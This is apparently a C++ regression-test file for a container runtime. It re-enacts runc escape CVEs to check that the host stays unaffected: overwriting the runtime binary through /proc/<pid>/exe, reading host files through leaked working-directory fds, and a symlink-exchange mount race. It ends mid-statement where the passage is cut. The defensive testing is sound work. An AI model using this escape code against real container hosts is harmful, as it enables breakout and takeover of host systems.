// Regression tests named after runc's container-escape CVEs. Each one *attempts* the escape
// from inside a container (or with the hostile image / config the CVE needed) and asserts that
// the host is unaffected. docs/security.md describes the defence each test pins.
//
// The attacker of the /proc/<pid>/{exe,cwd,root,fd} tests is a process of this binary that
// enters the container the way `exec` does: it joins every namespace of the container's init,
// keeps only the container's capabilities and sets no_new_privs, and then, with raw syscalls,
// tries what a program in the image would try (busybox has no O_PATH).
#include <dirent.h>
#include <fcntl.h>
#include <gmock/gmock.h>
#include <linux/capability.h>
#include <poll.h>
#include <pty.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstring>
#include <filesystem>
#include <set>

#include "harness.h"

namespace berth::it {
namespace {

namespace fs = std::filesystem;
using ::testing::HasSubstr;
using ::testing::Not;

// ---- helpers ----------------------------------------------------------------------------------

constexpr const char* kCorePattern = "/proc/sys/kernel/core_pattern";
constexpr const char* kCoreUsesPid = "/proc/sys/kernel/core_uses_pid";

std::string Sha256(const std::string& path) {
  std::string cmd = "sha256sum '" + path + "' 2>/dev/null";
  std::string out;
  if (FILE* f = popen(cmd.c_str(), "r")) {
    char buf[256];
    size_t n;
    while ((n = fread(buf, 1, sizeof buf, f)) > 0) out.append(buf, n);
    pclose(f);
  }
  auto w = SplitWs(out);
  return w.empty() ? "(sha256sum failed)" : w[0];
}

// Restores a host sysctl file in the destructor if a test (i.e. a vulnerable runtime) changed it.
class HostFileGuard {
 public:
  explicit HostFileGuard(std::string path) : path_(std::move(path)), saved_(ReadFileOr(path_)) {}
  ~HostFileGuard() {
    if (!saved_.empty() && ReadFileOr(path_) != saved_) {
      int fd = open(path_.c_str(), O_WRONLY | O_CLOEXEC);
      if (fd >= 0) {
        (void)!write(fd, saved_.data(), saved_.size());
        close(fd);
      }
    }
  }
  const std::string& saved() const { return saved_; }
  bool unchanged() const { return ReadFileOr(path_) == saved_; }
  const std::string& path() const { return path_; }

 private:
  std::string path_, saved_;
};

// Mount points on the host at or below `dir` (the host's total mount count is no measure: other
// engineers' daemons mount and unmount concurrently).
std::vector<std::string> HostMountsUnder(const std::string& dir) {
  std::vector<std::string> out;
  for (auto& m : ParseMountInfo(ReadFileOr("/proc/self/mountinfo")))
    if (m.mount_point == dir || m.mount_point.rfind(dir + "/", 0) == 0)
      out.push_back(m.mount_point);
  return out;
}

// An object of the host that no process in a container may ever reach.
struct HostObject {
  dev_t dev = 0;
  ino_t ino = 0;
  std::string name;
};

std::vector<HostObject> HostObjects(const std::vector<std::string>& paths) {
  std::vector<HostObject> out;
  for (const std::string& p : paths) {
    struct stat st;
    if (stat(p.c_str(), &st) == 0) out.push_back({st.st_dev, st.st_ino, p});
  }
  return out;
}

uint64_t ContainerCaps(const json& config) {
  std::vector<std::string> names;
  for (auto& c : config["process"]["capabilities"]["permitted"])
    names.push_back(c.get<std::string>());
  return CapMask(names);
}

// What the intruder looks for, and the file it tries to overwrite.
struct Probe {
  std::vector<HostObject> forbidden;  // host objects: reaching any one is an escape
  std::optional<HostObject> runtime;  // the runtime binary (also in `forbidden`)
  std::string marker = "\nBERTH-IT-CVE-2019-5736-OVERWRITTEN\n";
};

bool StopRequested(int stop_fd) {
  struct pollfd p {
    stop_fd, POLLIN, 0
  };
  return poll(&p, 1, 0) > 0;  // POLLHUP once the test closes its end
}

const HostObject* Match(const std::vector<HostObject>& set, int fd) {
  struct stat st;
  if (fstat(fd, &st) < 0) return nullptr;
  for (const HostObject& o : set)
    if (o.dev == st.st_dev && o.ino == st.st_ino) return &o;
  return nullptr;
}

// The attack loop, run inside the container. It writes one line per distinct finding:
//   EXPOSED <what> -> <host object>   a magic link of some process led to a host object
//   OVERWROTE <how>                   it wrote into the runtime binary
// and "SCANS <n>" at the end.
void ProbeLoop(const Probe& probe, int out, int stop) {
  std::set<std::string> reported;
  auto report = [&](const std::string& line) {
    if (reported.insert(line).second) dprintf(out, "%s\n", line.c_str());
  };
  std::vector<int> held;  // O_PATH fds of the runtime binary, reopened for writing later
  auto try_overwrite = [&] {
    for (auto it = held.begin(); it != held.end();) {
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", *it);
      int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
      if (w < 0) {
        ++it;
        continue;
      }
      (void)!write(w, probe.marker.data(), probe.marker.size());
      close(w);
      report("OVERWROTE the runtime binary by reopening an O_PATH fd of /proc/<pid>/exe");
      close(*it);
      it = held.erase(it);
    }
  };
  pid_t self = getpid();
  long scans = 0;
  dprintf(out, "READY\n");
  do {
    DIR* proc = opendir("/proc");
    if (!proc) {
      report("ERROR opendir /proc: " + std::string(strerror(errno)));
      break;
    }
    while (struct dirent* e = readdir(proc)) {
      pid_t pid = atoi(e->d_name);
      if (pid <= 0 || pid == self) continue;
      std::string base = std::string("/proc/") + e->d_name;
      for (const char* link : {"exe", "cwd", "root"}) {
        int fd = open((base + "/" + link).c_str(), O_PATH | O_CLOEXEC);
        if (fd < 0) continue;
        const HostObject* hit = Match(probe.forbidden, fd);
        if (!hit) {
          close(fd);
          continue;
        }
        bool is_runtime =
            probe.runtime && hit->ino == probe.runtime->ino && hit->dev == probe.runtime->dev;
        struct statfs sf;
        if (is_runtime && fstatfs(fd, &sf) == 0 && (sf.f_flags & ST_RDONLY))
          // runc 1.1 re-execs itself from a read-only bind mount of its binary: reachable, but
          // it cannot be reopened for writing.
          report(std::string("NOTE /proc/<pid>/") + link + " -> " + hit->name +
                 " on a read-only mount");
        else
          report(std::string("EXPOSED /proc/<pid>/") + link + " -> " + hit->name);
        if (is_runtime && held.size() < 64)
          held.push_back(fd);
        else
          close(fd);
      }
      if (probe.runtime) {
        // The naive variant: open the running binary for writing straight away.
        int w = open((base + "/exe").c_str(), O_WRONLY | O_APPEND | O_CLOEXEC);
        if (w >= 0) {
          if (Match({*probe.runtime}, w)) {
            (void)!write(w, probe.marker.data(), probe.marker.size());
            report("OVERWROTE the runtime binary through /proc/<pid>/exe opened O_WRONLY");
          }
          close(w);
        }
      }
      if (DIR* fds = opendir((base + "/fd").c_str())) {
        while (struct dirent* f = readdir(fds)) {
          if (f->d_name[0] == '.') continue;
          int fd = open((base + "/fd/" + f->d_name).c_str(), O_PATH | O_CLOEXEC);
          if (fd < 0) continue;
          if (const HostObject* hit = Match(probe.forbidden, fd))
            report("EXPOSED /proc/<pid>/fd/<n> -> " + hit->name);
          close(fd);
        }
        closedir(fds);
      }
    }
    closedir(proc);
    try_overwrite();
    ++scans;
  } while (!StopRequested(stop));
  // CVE-2019-5736's exploit waits for the runtime to exit (ETXTBSY until then), then reopens.
  for (int i = 0; i < 50 && !held.empty(); i++) {
    try_overwrite();
    usleep(10 * 1000);
  }
  dprintf(out, "SCANS %ld\n", scans);
}

// A process that enters the container whose init is `init_pid` as `exec` would, and runs
// ProbeLoop there until Finish().
class Intruder {
 public:
  Intruder(const Intruder&) = delete;
  Intruder& operator=(const Intruder&) = delete;
  Intruder(pid_t init_pid, uint64_t caps, const Probe& probe) {
    int out[2], stop[2];
    if (pipe2(out, O_CLOEXEC) < 0 || pipe2(stop, O_CLOEXEC) < 0) {
      ADD_FAILURE() << "pipe: " << strerror(errno);
      return;
    }
    // Namespace fds are opened here, in the host's view of /proc.
    std::vector<int> ns_fds;
    for (const char* ns : {"ipc", "uts", "net", "cgroup", "pid", "mnt"}) {
      std::string mine = "/proc/self/ns/" + std::string(ns);
      std::string theirs = "/proc/" + std::to_string(init_pid) + "/ns/" + ns;
      struct stat a, b;
      if (stat(mine.c_str(), &a) == 0 && stat(theirs.c_str(), &b) == 0 && a.st_ino == b.st_ino)
        continue;
      int fd = open(theirs.c_str(), O_RDONLY | O_CLOEXEC);
      if (fd < 0) {
        ADD_FAILURE() << "open " << theirs << ": " << strerror(errno);
        continue;
      }
      ns_fds.push_back(fd);
    }
    int last_cap = atoi(ReadFileOr("/proc/sys/kernel/cap_last_cap", "40").c_str());
    pid_ = fork();
    if (pid_ == 0) {
      prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
      close(out[0]);
      close(stop[1]);
      for (int fd : ns_fds)
        if (setns(fd, 0) < 0) {
          dprintf(out[1], "ERROR setns: %s\n", strerror(errno));
          _exit(1);
        }
      pid_t child = fork();  // the pid namespace applies to children
      if (child == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
        for (int c = 0; c <= last_cap; c++)
          if (!(caps & (uint64_t{1} << c))) prctl(PR_CAPBSET_DROP, c, 0, 0, 0);
        struct __user_cap_header_struct h = {_LINUX_CAPABILITY_VERSION_3, 0};
        struct __user_cap_data_struct d[2] = {};
        d[0].effective = d[0].permitted = static_cast<uint32_t>(caps);
        d[1].effective = d[1].permitted = static_cast<uint32_t>(caps >> 32);
        if (syscall(SYS_capset, &h, d) < 0 || prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0) {
          dprintf(out[1], "ERROR drop capabilities: %s\n", strerror(errno));
          _exit(1);
        }
        ProbeLoop(probe, out[1], stop[0]);
        _exit(0);
      }
      close(out[1]);
      close(stop[0]);
      if (child > 0) waitpid(child, nullptr, 0);
      _exit(0);
    }
    for (int fd : ns_fds) close(fd);
    close(out[1]);
    close(stop[0]);
    out_ = out[0];
    stop_ = stop[1];
    if (pid_ < 0) ADD_FAILURE() << "fork: " << strerror(errno);
  }
  ~Intruder() {
    if (stop_ >= 0 || out_ >= 0) Finish(1s);
    if (pid_ > 0) {
      kill(pid_, SIGKILL);
      waitpid(pid_, nullptr, 0);  // may already be reaped by the harness (ECHILD)
    }
  }
  // Waits until the probe loop runs inside the container.
  bool WaitReady(std::chrono::milliseconds timeout = 5s) {
    Pump(timeout, [&] { return output_.find("READY\n") != std::string::npos; });
    return output_.find("READY\n") != std::string::npos;
  }
  // Stops the loop and returns everything it reported.
  std::string Finish(std::chrono::milliseconds timeout = 5s) {
    if (stop_ >= 0) close(stop_);
    stop_ = -1;
    Pump(timeout, [] { return false; });
    if (out_ >= 0) close(out_);
    out_ = -1;
    return output_;
  }

 private:
  void Pump(std::chrono::milliseconds timeout, const std::function<bool()>& done) {
    auto deadline = std::chrono::steady_clock::now() + timeout;
    while (out_ >= 0 && !done()) {
      auto left = std::chrono::duration_cast<std::chrono::milliseconds>(
          deadline - std::chrono::steady_clock::now());
      if (left.count() <= 0) break;
      struct pollfd p {
        out_, POLLIN, 0
      };
      if (poll(&p, 1, static_cast<int>(std::min<long>(left.count(), 50))) <= 0) continue;
      char buf[4096];
      ssize_t n = read(out_, buf, sizeof buf);
      if (n <= 0) {
        close(out_);
        out_ = -1;
        break;
      }
      output_.append(buf, n);
    }
  }
  pid_t pid_ = -1;
  int out_ = -1, stop_ = -1;
  std::string output_;
};

// Where a /proc/<pid>/exe link points ("" once the process is gone).
std::string ExeOf(const std::string& link) {
  std::error_code ec;
  auto p = fs::read_symlink(link, ec);
  return ec ? std::string() : p.string();
}

// Findings about the runtime binary (CVE-2019-5736 proper), and about host directories.
std::vector<std::string> BinaryFindings(const std::string& report) {
  std::vector<std::string> out;
  for (auto& l : SplitLines(report))
    if (l.rfind("OVERWROTE", 0) == 0 || l.rfind("ERROR", 0) == 0 ||
        (l.rfind("EXPOSED", 0) == 0 && l.find("runtime binary") != std::string::npos))
      out.push_back(l);
  return out;
}
std::vector<std::string> HostFsFindings(const std::string& report) {
  std::vector<std::string> out;
  for (auto& l : SplitLines(report))
    if (l.rfind("EXPOSED", 0) == 0 && l.find("runtime binary") == std::string::npos)
      out.push_back(l);
  return out;
}

class CveTest : public RuntimeTest {
 protected:
  // A private busybox rootfs this test may poison.
  std::string OwnRootfs(const std::string& name = "rootfs") {
    std::string r = tmp_ + "/" + name;
    BuildRootfs(r);
    return r;
  }
  json ConfigIn(const std::string& id, const std::string& rootfs, std::vector<std::string> args) {
    json c = Config(id, std::move(args));
    c["root"]["path"] = rootfs;
    return c;
  }
  pid_t InitPid(const std::string& id) {
    json st = State(id);
    if (!st.is_object() || !st.contains("pid") || !st["pid"].is_number_integer()) return -1;
    pid_t pid = st["pid"].get<pid_t>();
    if (pid > 0) TrackPid(pid);
    return pid;
  }

  // A copy of the runtime under test, so that a successful CVE-2019-5736 attack can only ever
  // damage the copy. Returns false (with a failure) if it cannot be made.
  bool CopyRuntime() {
    copy_ = tmp_ + "/runtime-copy/" + RuntimeName();
    std::error_code ec;
    fs::create_directories(tmp_ + "/runtime-copy", ec);
    fs::copy_file(RuntimePath(), copy_, fs::copy_options::overwrite_existing, ec);
    if (ec) {
      ADD_FAILURE() << "copy " << RuntimePath() << ": " << ec.message();
      return false;
    }
    chmod(copy_.c_str(), 0755);
    copy_bytes_ = ReadFileOr(copy_);
    copy_sha_ = Sha256(copy_);
    return !copy_bytes_.empty();
  }
  ExecResult RunCopy(const std::vector<std::string>& args, const SpawnOptions& opts = {}) {
    std::vector<std::string> argv = {copy_, "--root", root_};
    argv.insert(argv.end(), args.begin(), args.end());
    return Process::Spawn(argv, tmp_, opts).Wait();
  }
  // The host objects an intruder must never reach, with the runtime copy among them.
  Probe ProbeForCopy(std::vector<std::string> more = {}) {
    Probe p;
    char cwd[4096] = "";
    if (!getcwd(cwd, sizeof cwd)) cwd[0] = 0;
    std::vector<std::string> paths = {"/", tmp_, root_, cwd};
    paths.insert(paths.end(), more.begin(), more.end());
    p.forbidden = HostObjects(paths);
    auto rt = HostObjects({copy_});
    if (!rt.empty()) {
      rt[0].name = "the runtime binary " + copy_;
      p.runtime = rt[0];
      p.forbidden.push_back(rt[0]);
    }
    return p;
  }
  void ExpectRuntimeCopyIntact(const std::string& report) {
    bool same = ReadFileOr(copy_) == copy_bytes_;
    EXPECT_TRUE(same)
        << "CVE-2019-5736: the runtime binary was overwritten from inside the container (sha256 "
        << copy_sha_ << " -> " << Sha256(copy_) << ")\n"
        << report;
    EXPECT_EQ(Sha256(copy_), copy_sha_);
  }

  void AttackInit(pid_t intruder_in, uint64_t intruder_caps, const std::string& id,
                  const json& config);

  std::string copy_, copy_bytes_, copy_sha_;
};

// ---- CVE-2019-5736: overwriting the runtime binary through /proc/<pid>/exe ---------------------

// The script the image puts in place of a program `exec` will run: if the kernel ran it with
// the exec'ing process's image, that image would be the runtime binary.
constexpr const char* kProcSelfExeScript = "#!/proc/self/exe\n";

TEST_F(CveTest, CVE_2019_5736_ExecOfAProcSelfExeScriptRunsTheStubNotTheRuntime) {
  SKIP_ON_RUNC(
      "runc 1.1 runs from a read-only bind mount (or memfd) of itself, so the script runs "
      "runc's code, harmlessly; berth's stub exits 127");
  std::string rootfs = OwnRootfs();
  WriteFile(rootfs + "/bin/evil", kProcSelfExeScript, 0755);
  WriteFile(rootfs + "/bin/evil-arg", "#!/proc/self/exe features\n", 0755);
  std::string id = NewId();
  ASSERT_EQ(RunContainer(id, ConfigIn(id, rootfs, {"sleep", "30"}), {"--detach"}).exit_code, 0);
  InitPid(id);
  for (auto args : std::vector<std::vector<std::string>>{
           {"/bin/evil"}, {"/bin/evil-arg"}, {"/bin/evil", "a", "b"}}) {
    std::vector<std::string> argv = {"exec", id};
    argv.insert(argv.end(), args.begin(), args.end());
    ExecResult r = Runtime(argv);
    SCOPED_TRACE(args[0]);
    // The kernel runs the interpreter /proc/self/exe of the exec'ing process: berth's sealed
    // memfd stub, which finds no arguments of its own and exits 127. Had it been the runtime
    // binary, the runtime's own CLI would have answered (usage text, `features` JSON).
    EXPECT_EQ(r.exit_code, 127) << Describe(r);
    EXPECT_THAT(r.out, Not(HasSubstr("ociVersion")))
        << "the runtime binary ran inside the container";
    EXPECT_THAT(r.err, Not(HasSubstr("ubcommand")))
        << "the runtime binary ran inside the container";
    EXPECT_THAT(r.err, Not(HasSubstr("Usage"))) << "the runtime binary ran inside the container";
  }
}

TEST_F(CveTest, CVE_2019_5736_ExecCannotReachOrOverwriteTheRuntimeBinary) {
  // The original exploit: /bin/evil is "#!/proc/self/exe"; a process in the container waits for
  // a process whose /proc/<pid>/exe is the runtime, keeps an O_PATH fd of it, and reopens it
  // for writing once the runtime has exited. Here the runtime is a copy made for this test.
  ASSERT_TRUE(CopyRuntime());
  std::string rootfs = OwnRootfs();
  WriteFile(rootfs + "/bin/evil", kProcSelfExeScript, 0755);
  std::string id = NewId();
  json c = ConfigIn(id, rootfs, {"sleep", "30"});
  Track(id);
  WriteBundle(id, c);
  ExecResult run = RunCopy({"run", "--detach", "--bundle", BundleDir(id), id});
  ASSERT_EQ(run.exit_code, 0) << Describe(run);
  pid_t init = InitPid(id);
  ASSERT_GT(init, 0);
  Intruder intruder(init, ContainerCaps(c), ProbeForCopy());
  ASSERT_TRUE(intruder.WaitReady()) << intruder.Finish();
  std::vector<int> codes;
  for (int i = 0; i < 8; i++) {
    codes.push_back(RunCopy({"exec", id, "/bin/evil"}).exit_code);
    codes.push_back(RunCopy({"exec", id, "sh", "-c", "true"}).exit_code);
  }
  std::string report = intruder.Finish();
  EXPECT_THAT(BinaryFindings(report), ::testing::IsEmpty())
      << "CVE-2019-5736: a process in the container reached the runtime's process image";
  EXPECT_THAT(HostFsFindings(report), ::testing::IsEmpty())
      << "a process in the container reached the host";
  EXPECT_THAT(report, HasSubstr("SCANS")) << report;
  ExpectRuntimeCopyIntact(report);
  if (!RuntimeIsRunc()) {
    for (size_t i = 0; i < codes.size(); i += 2)
      EXPECT_EQ(codes[i], 127) << "exec /bin/evil #" << i / 2;
  }
}

TEST_F(CveTest, CVE_2019_5736_ExecIntoAContainerWithCapSysPtraceCannotReachTheRuntimeBinary) {
  // docker run --cap-add SYS_PTRACE: being non-dumpable no longer hides the exec'ing process
  // (CAP_SYS_PTRACE overrides that). Its /proc/<pid>/exe, cwd and root must still never be the
  // runtime binary or the host: the runtime has to exec from something else before the process
  // becomes visible in the container (runc: a memfd copy of itself).
  ASSERT_TRUE(CopyRuntime());
  std::string rootfs = OwnRootfs();
  WriteFile(rootfs + "/bin/evil", kProcSelfExeScript, 0755);
  std::string id = NewId();
  json c = ConfigIn(id, rootfs, {"sleep", "30"});
  for (auto set : {"bounding", "effective", "permitted"})
    c["process"]["capabilities"][set].push_back("CAP_SYS_PTRACE");
  Track(id);
  WriteBundle(id, c);
  ExecResult run = RunCopy({"run", "--detach", "--bundle", BundleDir(id), id});
  ASSERT_EQ(run.exit_code, 0) << Describe(run);
  pid_t init = InitPid(id);
  ASSERT_GT(init, 0);
  Intruder intruder(init, ContainerCaps(c), ProbeForCopy());
  ASSERT_TRUE(intruder.WaitReady()) << intruder.Finish();
  for (int i = 0; i < 15; i++) {
    RunCopy({"exec", id, "/bin/evil"});
    RunCopy({"exec", id, "true"});
  }
  std::string report = intruder.Finish();
  EXPECT_THAT(BinaryFindings(report), ::testing::IsEmpty())
      << "CVE-2019-5736 (CAP_SYS_PTRACE): while `exec` sets up, its child is visible in the "
         "container's pid "
         "namespace with the (writable) runtime binary as its image";
  ExpectRuntimeCopyIntact(report);
  EXPECT_THAT(HostFsFindings(report), ::testing::IsEmpty())
      << "while `exec` sets up, its child is visible in the container's pid namespace with the "
         "host's root or "
         "cwd (reachable as /proc/<pid>/root, /proc/<pid>/cwd with CAP_SYS_PTRACE)";
}

// Between create and start the init waits. If its image is the runtime binary, a process that
// shares its pid namespace (exec'd into the created container, or another container of the
// pod) keeps a handle on /proc/<init>/exe; once start has made the init exec the user's
// program the binary is no longer busy, and the handle is reopened for writing. While the init
// sets up (before pivot_root) its root and cwd are the host's, too.
void CveTest::AttackInit(pid_t intruder_in, uint64_t intruder_caps, const std::string& id,
                         const json& config) {
  Track(id);
  WriteBundle(id, config);
  std::optional<Intruder> intruder;
  if (intruder_in > 0) {  // already there when the init appears
    intruder.emplace(intruder_in, intruder_caps, ProbeForCopy());
    ASSERT_TRUE(intruder->WaitReady()) << intruder->Finish();
  }
  ExecResult cr = RunCopy({"create", "--bundle", BundleDir(id), id});
  ASSERT_EQ(cr.exit_code, 0) << Describe(cr);
  pid_t init = InitPid(id);
  ASSERT_GT(init, 0);
  if (!intruder) {  // exec'd into the created container
    intruder.emplace(init, intruder_caps, ProbeForCopy());
    ASSERT_TRUE(intruder->WaitReady()) << intruder->Finish();
  }
  usleep(100 * 1000);
  ExecResult st = RunCopy({"start", id});
  EXPECT_EQ(st.exit_code, 0) << Describe(st);
  // Wait until the init has exec'd away from the runtime (the point where the exploit writes).
  std::string init_exe = "/proc/" + std::to_string(init) + "/exe";
  WaitUntil([&] { return ExeOf(init_exe) != copy_; }, 3s);
  usleep(100 * 1000);
  std::string report = intruder->Finish();
  EXPECT_THAT(BinaryFindings(report), ::testing::IsEmpty())
      << "CVE-2019-5736: a process sharing the pid namespace of a new container's init reached the "
         "(writable) "
         "runtime binary through /proc/<init>/exe";
  ExpectRuntimeCopyIntact(report);
  auto host = HostFsFindings(report);
  if (RuntimeIsRunc() && !host.empty())
    GTEST_SKIP() << "runc differs: runc 1.1's init is visible in a joined pid namespace while its "
                    "root is still the "
                    "host's (before pivot_root), so CAP_SYS_PTRACE in a sibling reaches it: "
                 << host[0];
  EXPECT_THAT(host, ::testing::IsEmpty())
      << "a process sharing the pid namespace of a new container's init reached a host directory "
         "through "
         "/proc/<init>/{root,cwd,fd} (CAP_SYS_PTRACE overrides non-dumpable)";
}

void AddCapability(json& c, const char* cap) {
  for (auto set : {"bounding", "effective", "permitted"})
    c["process"]["capabilities"][set].push_back(cap);
}

TEST_F(CveTest, CVE_2019_5736_CreatedInitDoesNotExposeTheRuntimeBinary) {
  ASSERT_TRUE(CopyRuntime());
  std::string id = NewId();
  json c = Config(id, {"sleep", "30"});
  AttackInit(0, ContainerCaps(c), id, c);
}

TEST_F(CveTest, CVE_2019_5736_CreatedInitWithCapSysPtraceDoesNotExposeTheRuntimeBinary) {
  // CAP_SYS_PTRACE in the container overrides the init being non-dumpable; a startContainer
  // hook keeps the init in the runtime until start.
  ASSERT_TRUE(CopyRuntime());
  std::string id = NewId();
  json c = Config(id, {"sleep", "30"});
  AddCapability(c, "CAP_SYS_PTRACE");
  c["hooks"]["startContainer"] = json::array({{{"path", "/bin/true"}}});
  AttackInit(0, ContainerCaps(c), id, c);
}

TEST_F(CveTest, CVE_2019_5736_SharedPidNamespaceCannotReachANewContainersInit) {
  // A pod: container B joins container A's pid namespace; something in A watches for B's init.
  ASSERT_TRUE(CopyRuntime());
  std::string a = NewId();
  json ca = Config(a, {"sleep", "30"});
  CreateAndStart(a, ca);
  pid_t a_init = InitPid(a);
  ASSERT_GT(a_init, 0);
  std::string b = NewId();
  json cb = Config(b, {"sleep", "30"});
  for (auto& ns : cb["linux"]["namespaces"])
    if (ns["type"] == "pid") ns["path"] = "/proc/" + std::to_string(a_init) + "/ns/pid";
  AttackInit(a_init, ContainerCaps(ca), b, cb);
}

TEST_F(CveTest, CVE_2019_5736_SharedPidNamespaceWithCapSysPtraceCannotReachANewContainersInit) {
  // The same pod with a debugging sidecar (CAP_SYS_PTRACE, as `kubectl debug` profiles grant): it
  // can open /proc files of non-dumpable processes, so the init must never be the runtime binary
  // (nor have the host as root or cwd) while it is visible in the shared pid namespace.
  ASSERT_TRUE(CopyRuntime());
  std::string a = NewId();
  json ca = Config(a, {"sleep", "30"});
  AddCapability(ca, "CAP_SYS_PTRACE");
  CreateAndStart(a, ca);
  pid_t a_init = InitPid(a);
  ASSERT_GT(a_init, 0);
  std::string b = NewId();
  json cb = Config(b, {"sleep", "30"});
  for (auto& ns : cb["linux"]["namespaces"])
    if (ns["type"] == "pid") ns["path"] = "/proc/" + std::to_string(a_init) + "/ns/pid";
  AttackInit(a_init, ContainerCaps(ca), b, cb);
}

// ---- CVE-2024-21626: a host fd as the working directory -----------------------------------------

// Climbing `..` from the cwd must reach the container's root; from a host directory it would not.
constexpr const char* kCwdContained =
    "cat host-secret 2>/dev/null; "
    "[ \"$(stat -c %d:%i /)\" = \"$(cd ../../../../../../../../../.. && stat -c %d:%i .)\" ] && "
    "echo contained "
    "|| echo ESCAPED";

class CveFdTest : public CveTest {
 protected:
  // Host directories open at fds 3..10 in the runtime: what a caller (shim, engine) that leaks
  // fds would hand it. The runtime must not let the container reach any of them.
  void SetUp() override {
    CveTest::SetUp();
    if (IsSkipped()) return;
    host_dir_ = MakeDir("host-dir");
    WriteFile(host_dir_ + "/host-secret", "HOST-SECRET\n");
    for (int n = 3; n <= 10; n++) {
      int fd = open(host_dir_.c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
      ASSERT_GE(fd, 0);
      fds_.push_back(fd);
      leaked_.extra_fds[n] = fd;
    }
  }
  void TearDown() override {
    for (int fd : fds_) close(fd);
    CveTest::TearDown();
  }
  std::string host_dir_;
  std::vector<int> fds_;
  SpawnOptions leaked_;
};

TEST_F(CveFdTest, CVE_2024_21626_ConfigCwdThroughAFdOfTheRuntimeForRun) {
  for (int n = 3; n <= 10; ++n) {
    SCOPED_TRACE("process.cwd /proc/self/fd/" + std::to_string(n));
    std::string id = NewId();
    json c = Config(id, {"sh", "-c", kCwdContained});
    c["process"]["cwd"] = "/proc/self/fd/" + std::to_string(n);
    ExecResult r = RunContainer(id, c, {}, leaked_);
    EXPECT_THAT(r.out, Not(HasSubstr("HOST-SECRET"))) << "CVE-2024-21626: cwd is a host directory\n"
                                                      << Describe(r);
    EXPECT_THAT(r.out, Not(HasSubstr("ESCAPED"))) << Describe(r);
    if (r.exit_code == 0) {
      EXPECT_EQ(r.out, "contained\n");
    }
  }
}

TEST_F(CveFdTest, CVE_2024_21626_ConfigCwdThroughAFdOfTheRuntimeForCreateAndStart) {
  for (int n : {3, 5, 7, 10}) {
    SCOPED_TRACE("process.cwd /proc/self/fd/" + std::to_string(n));
    std::string id = NewId();
    json c = Config(id, {"sh", "-c", kCwdContained});
    c["process"]["cwd"] = "/proc/self/fd/" + std::to_string(n);
    ExecResult cr = Create(id, c, {}, leaked_);
    if (cr.exit_code != 0) {
      ExpectNoTrace(id);
      continue;
    }
    ASSERT_EQ(Runtime({"start", id}).exit_code, 0);
    WaitForStatus(id, "stopped");
    std::string out = ReadFileOr(cr.out_path);
    EXPECT_THAT(out, Not(HasSubstr("HOST-SECRET"))) << "CVE-2024-21626: cwd is a host directory";
    EXPECT_THAT(out, Not(HasSubstr("ESCAPED")));
  }
}

TEST_F(CveFdTest, CVE_2024_21626_ExecCwdThroughAFdOfTheRuntime) {
  // `exec --cwd` and the config variant, `exec --process` whose cwd is /proc/self/fd/N.
  std::string id = NewId();
  CreateAndStart(id, Config(id, {"sleep", "30"}));
  for (int n = 3; n <= 10; ++n) {
    std::string cwd = "/proc/self/fd/" + std::to_string(n);
    {
      SCOPED_TRACE("exec --cwd " + cwd);
      ExecResult r = Runtime({"exec", "--cwd", cwd, id, "sh", "-c", kCwdContained}, leaked_);
      EXPECT_THAT(r.out, Not(HasSubstr("HOST-SECRET")))
          << "CVE-2024-21626: the exec'd process started in a host directory held by the runtime\n"
          << Describe(r);
      EXPECT_THAT(r.out, Not(HasSubstr("ESCAPED"))) << Describe(r);
      if (r.exit_code == 0) {
        EXPECT_EQ(r.out, "contained\n");
      }
    }
    {
      SCOPED_TRACE("exec --process with cwd " + cwd);
      json p = Config(id, {"sh", "-c", kCwdContained})["process"];
      p["cwd"] = cwd;
      std::string path = tmp_ + "/process-" + std::to_string(n) + ".json";
      WriteFile(path, p.dump());
      ExecResult r = Runtime({"exec", "--process", path, id}, leaked_);
      EXPECT_THAT(r.out, Not(HasSubstr("HOST-SECRET")))
          << "CVE-2024-21626: the exec'd process started in a host directory held by the runtime\n"
          << Describe(r);
      EXPECT_THAT(r.out, Not(HasSubstr("ESCAPED"))) << Describe(r);
      if (r.exit_code == 0) {
        EXPECT_EQ(r.out, "contained\n");
      }
    }
  }
}

TEST_F(CveFdTest, CVE_2024_21626_CreatedInitHoldsNoHostFdReachableFromTheContainer) {
  // Until start, the init holds whatever fds the runtime had. A process exec'd into the created
  // container must not be able to use /proc/1/fd/N (or cwd, root) to reach a host directory.
  std::string id = NewId();
  ExecResult cr = Create(id, Config(id, {"sleep", "30"}), {}, leaked_);
  ASSERT_EQ(cr.exit_code, 0) << Describe(cr);
  ExecResult r = Runtime(
      {"exec", id, "sh", "-c",
       "for f in /proc/1/fd/* /proc/1/cwd /proc/1/root; do cat $f/host-secret 2>/dev/null; done; "
       "echo done"});
  EXPECT_EQ(r.exit_code, 0) << Describe(r);
  EXPECT_THAT(r.out, Not(HasSubstr("HOST-SECRET")))
      << "CVE-2024-21626 (create/start window): a host directory fd the runtime held is reachable "
         "through "
         "the created init's /proc/1/fd\n"
      << Describe(r);
  EXPECT_EQ(Runtime({"start", id}).exit_code, 0);
}

// ---- CVE-2021-30465: symlink-exchange race on a mount destination ------------------------------

TEST_F(CveTest, CVE_2021_30465_SymlinkExchangeRaceCannotMoveABindMountOutOfTheRootfs) {
  // rootfs/race (a directory with dst/) and rootfs/race-link (a symlink to a host directory)
  // are swapped with RENAME_EXCHANGE in a tight loop while containers mount a volume on
  // /race/dst. The mount must always land inside the rootfs: at the resolved directory, or at
  // the symlink's target resolved *inside* the root; never on the host directory.
  std::string rootfs = OwnRootfs();
  std::string host_target = MakeDir("host-target");
  mkdir((host_target + "/dst").c_str(), 0755);
  std::string volume = MakeDir("volume");
  WriteFile(volume + "/MOUNTED", "volume\n");
  std::string race = rootfs + "/race", link = rootfs + "/race-link";
  mkdir(race.c_str(), 0755);
  mkdir((race + "/dst").c_str(), 0755);
  ASSERT_EQ(symlink(host_target.c_str(), link.c_str()), 0);
  if (syscall(SYS_renameat2, AT_FDCWD, race.c_str(), AT_FDCWD, link.c_str(), RENAME_EXCHANGE) < 0)
